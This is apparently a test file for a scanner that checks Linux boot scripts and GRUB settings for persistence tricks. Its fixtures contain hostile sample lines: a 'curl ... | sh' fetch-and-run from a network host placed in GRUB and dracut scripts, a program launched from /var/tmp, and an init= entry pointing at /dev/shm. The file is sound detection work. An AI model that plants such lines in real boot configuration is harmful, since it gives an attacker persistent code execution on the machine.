import { expect, test } from 'vitest';
import { because, openSightings, sightings } from '../../../tests/told.ts';
import { bootHooks } from './boot-hooks.ts';

test('scripts of the boot that fetch something or start it from a temporary folder are told openly', () => {
  const files = {
    '/etc/initramfs-tools/scripts/init-bottom/net': '#!/bin/sh\nPREREQ=""\ncp /etc/x /root/usr/bin/x\n/var/tmp/.m &\n',
    '/etc/grub.d/09_theme': '#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n',
    '/usr/lib/dracut/modules.d/99net/pre-pivot.sh': '#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n',
    '/etc/default/grub': 'GRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX="quiet init=/dev/shm/.i"\n',
  };
  expect(openSightings(bootHooks, files)).toMatchObject([
    { path: '/etc/grub.d/09_theme', line: 2, ...because('fetches-and-runs') },
    { path: '/etc/initramfs-tools/scripts/init-bottom/net', line: 4, ...because('from-temporary-folder') },
    { path: '/usr/lib/dracut/modules.d/99net/pre-pivot.sh', ...because('fetches-and-runs') },
    { path: '/etc/default/grub', line: 2, value: { programs: ['/dev/shm/.i'], entry: 'init=/dev/shm/.i' } },
  ]);
});

test('the scripts of a distribution are ordinary', () => {
  const files = {
    '/etc/default/grub': 'GRUB_DEFAULT=0\nGRUB_DISTRIBUTOR=`( . /etc/os-release; echo $NAME ) 2>/dev/null`\n',
    '/etc/grub.d/10_linux': '#!/bin/sh\nset -e\n. "$pkgdatadir/grub-mkconfig_lib"\n',
    '/etc/kernel/postinst.d/initramfs-tools':
      '#!/bin/sh -e\nINITRAMFS_TOOLS_KERNEL_HOOK=y update-initramfs -c -k "$version"\n',
    '/proc/cmdline': 'BOOT_IMAGE=/vmlinuz root=/dev/sda1 ro init=/usr/lib/systemd/systemd quiet\n',
    '/usr/lib/systemd/systemd': 'x',
  };
  expect(openSightings(bootHooks, files)).toEqual([]);
  expect(sightings(bootHooks, files)).toHaveLength(4);
});
